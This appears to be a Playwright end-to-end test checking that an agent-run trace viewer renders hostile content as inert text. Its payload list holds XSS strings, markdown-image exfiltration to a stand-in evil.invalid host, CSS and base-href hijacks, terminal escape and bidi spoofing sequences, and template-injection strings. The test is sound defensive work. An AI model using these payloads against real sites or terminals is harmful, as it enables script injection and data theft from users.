import { expect, test } from "./fixtures"
import { expectWhole, openRun, signIn, turnRow } from "./pages"

const ESC = "\u001b"
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  '"><iframe src=javascript:alert(1)>',
  "[click](javascript:alert(1))",
  "![x](https://evil.invalid/?q=secret)",
  "[x]: https://evil.invalid/a.png\n![a][x]",
  "<a href='https://evil.invalid' onclick=alert(1)>x</a>",
  "<style>@import url(https://evil.invalid/x.css)</style>",
  "<link rel=stylesheet href=https://evil.invalid/x.css>",
  "<base href=https://evil.invalid/>",
  `${ESC}]8;;https://evil.invalid${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;ZXZpbA==\u0007 ${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[H`,
  "\u202Egnp.exe\u202C \u2066hidden\u2069 \u0000\u0001\u0007",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for template engines, not a template.
  "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
  "data:text/html,<script>alert(1)</script>",
  "\ud800 lone surrogate",
  "x".repeat(16_384),
  ESC.repeat(16_384),
  `${ESC}[31m`.repeat(20_000),
  "javascript:alert(1)//https://ok.example",
  "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<script>alert(1)</script>\n+<img src=x onerror=alert(1)>",
  "# <img src=x onerror=alert(1)>\n\n<details open ontoggle=alert(1)>\n\n```html\n<script>alert(1)</script>\n```",
]

test("hostile trace content shows as text: no dialog, no foreign request, no policy report", async ({
  page,
  server,
  agent,
  offences,
}) => {
  const started = await agent.ask("runs.start", {
    agent_id: "e2e/hostile",
    agent_name: "<img src=x onerror=alert(1)>",
    intent: "<script>alert('intent')</script> ![i](https://evil.invalid/i.png)",
    labels: { "<b>k</b>": "<img src=x onerror=alert(1)>" },
  })
  if (!started.ok) throw new Error(started.error.message)
  const run_id = started.run_id
  for (const text of PAYLOADS)
    expect(
      await agent.ask("runs.record_turns", {
        run_id,
        turns: [
          {
            kind: "tool",
            tool: text.slice(0, 60),
            prompt: text,
            message: text,
            thinking: text,
            parameters: {
              [text.slice(0, 200)]: text,
              nested: [text, { "<img src=x onerror=alert(1)>": text }],
            },
            output: text,
            error: { message: text, type: text.slice(0, 100) },
            attributes: { [text.slice(0, 100)]: text },
          },
        ],
      }),
    ).toMatchObject({ ok: true })
  await agent.ask("runs.report_progress", {
    run_id,
    progress: {
      tool: "<img src=x onerror=alert(1)>",
      text: "<script>alert(1)</script>",
      waiting_for: "<b>you</b>",
    },
  })

  await signIn(page, server)
  await expect(page.getByText("<script>alert('intent')</script>").first()).toBeVisible()
  await openRun(page, server, run_id)
  await expectWhole(page, PAYLOADS.length)
  for (let index = 0; index < PAYLOADS.length; index++) {
    await turnRow(page, index).click()
    const inspector = page.getByRole("region", { name: `Turn ${index}`, exact: true })
    await expect(inspector).toBeVisible()
    for (const tab of await inspector.getByRole("tab").all()) await tab.click()
  }
  await agent.ask("runs.complete", {
    run_id,
    outcome: { status: "failure", summary: "<img src=x onerror=alert(1)>" },
  })
  await expect(page.locator("main")).toHaveAttribute("data-state", "completed")
  expect(offences).toEqual([])
})
